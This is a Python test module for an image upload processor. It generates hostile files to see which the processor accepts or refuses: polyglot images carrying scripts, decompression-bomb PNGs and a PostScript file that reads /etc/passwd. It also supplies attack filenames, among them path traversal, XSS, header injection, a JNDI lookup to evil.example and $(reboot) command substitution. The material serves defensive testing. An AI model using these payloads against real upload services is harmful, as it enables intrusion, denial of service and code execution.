"""Hostile files, and what taking each in costs: ``python -m articles.tests.media.hostile`` prints it."""

from __future__ import annotations

import io
import json
import struct
import subprocess
import sys
import tempfile
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from PIL import Image as Pillow

SCRIPT = b"<script>alert(document.domain)</script>"
# What the name of a file may try: ways up, types that run, signs that shells, headers and pages know.
NAMES = (
    "../../../etc/passwd",
    "..\\..\\windows\\system.ini",
    "/etc/shadow",
    "picture.jpg.html",
    "picture.php\x00.jpg",
    "<img src=x onerror=alert(1)>.jpg",
    '"; filename="x.html',
    "pi\r\nSet-Cookie: a=b\r\n.jpg",
    "пес\u202egnp.exe",
    "CON.jpg",
    "." * 300 + ".jpg",
    "x" * 5000 + ".jpg",
    ".htaccess",
    "${jndi:ldap://evil.example/a}.jpg",
    "$(reboot).jpg",
)


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *, mode: int = 2, rows: int | None = None) -> bytes:
    """A PNG of nothing but zeros that claims a size and holds so many rows."""
    channels = {0: 1, 2: 3, 6: 4}[mode]
    packer = zlib.compressobj(9)
    row = bytes(width * channels + 1)
    packed = b"".join(packer.compress(row) for _ in range(height if rows is None else rows)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, 8, mode, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def jpeg(width: int = 64, height: int = 48, **options: object) -> bytes:
    file = io.BytesIO()
    Pillow.new("RGB", (width, height), "red").save(file, "JPEG", **options)
    return file.getvalue()


def webp(width: int, height: int) -> bytes:
    file = io.BytesIO()
    Pillow.new("RGBA", (width, height), (255, 0, 0, 120)).save(file, "WEBP", lossless=True, method=0)
    return file.getvalue()


def taken() -> Iterator[tuple[str, bytes]]:
    """Files that are sound pictures too: they are taken, and nothing but their pixels is."""
    yield "jpeg with a script as comment", jpeg(comment=SCRIPT)
    yield "jpeg with a page behind it", jpeg() + b"<html>" + SCRIPT
    yield "jpeg with a zip behind it", jpeg() + b"PK\x03\x04" + SCRIPT
    yield "png with a script behind it", png(64, 48) + SCRIPT
    yield (
        "png with a text of its own",
        png(64, 48)[:33] + chunk(b"tEXt", b"Comment\0" + SCRIPT) + png(64, 48)[33:],
    )
    yield "png that holds fewer rows than said", png(3000, 3000, rows=10)
    yield "png of 40 megapixels, transparent", png(8000, 5000, mode=6)
    yield "jpeg of 40 megapixels", jpeg(8000, 5000)
    yield "webp of 16 megapixels", webp(4000, 4000)


def refused() -> Iterator[tuple[str, bytes]]:
    """Files that are no pictures, or too large to be read."""
    yield "png that claims 4 gigapixels", png(65_000, 65_000, rows=1)
    yield "png of 144 megapixels", png(12_000, 12_000, mode=0, rows=1)
    yield "jpeg cut in half", jpeg(800, 800)[:1500]
    yield "svg", b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"
    yield "html", b"<!doctype html>" + SCRIPT
    yield "gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
    yield "gif that is a script", b"GIF89a/*" + SCRIPT
    yield "pdf", b"%PDF-1.4 " + SCRIPT
    yield "zip", b"PK\x03\x04" + bytes(200)
    yield "postscript", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n(/etc/passwd) run"
    yield "tiff", b"II*\x00\x08\x00\x00\x00" + bytes(64)
    yield "ico", b"\x00\x00\x01\x00\x01\x00" + bytes(64)
    yield "bmp", b"BM" + bytes(80)
    yield "an executable", b"\x7fELF" + bytes(200)
    yield "nothing", b""
    yield "zeros", bytes(5000)


def main(arguments: list[str]) -> None:
    """Have the darkroom take each in; print what came of it, its processor time and its memory.

    The files are made by a process of their own: a child counts what its parent held when it began.
    """
    if arguments:
        for number, (name, data) in enumerate([*refused(), *taken()]):
            (Path(arguments[0]) / f"{number:02} {name}").write_bytes(data)
        return
    with tempfile.TemporaryDirectory() as folder:
        subprocess.run([sys.executable, "-m", "articles.tests.media.hostile", folder], check=True)
        for path in sorted(Path(folder).iterdir()):
            told, seconds, megabytes = cost_of(path)
            what = f"refused: {told['refused']}" if "refused" in told else f"taken as {told['original']}"
            sys.stdout.write(f"{path.name[3:]:36} {what:24} {seconds:5.2f} s {megabytes:5.0f} MB\n")


# A small process in between: what a process held at most is said to include who started it.
METER = """
import json, resource, subprocess, sys
said = subprocess.run(sys.argv[1:], stdout=subprocess.PIPE).stdout
used = resource.getrusage(resource.RUSAGE_CHILDREN)
print(json.dumps([json.loads(said), used.ru_utime + used.ru_stime, used.ru_maxrss / 1024]))
"""


def cost_of(path: Path) -> tuple[dict[str, Any], float, float]:
    """What the darkroom says of a file, the seconds of a processor it took, and the megabytes it held."""
    with tempfile.TemporaryDirectory() as folder:
        command = [sys.executable, "-m", "articles.media.darkroom", str(path), folder, "0.5", "0.5"]
        environment = {"PATH": "/usr/bin:/bin", "MALLOC_ARENA_MAX": "1"}
        measured = [sys.executable, "-c", METER, *command]
        done = subprocess.run(measured, stdout=subprocess.PIPE, env=environment, check=True)
    told, seconds, megabytes = json.loads(done.stdout)
    return told, seconds, megabytes


if __name__ == "__main__":
    main(sys.argv[1:])
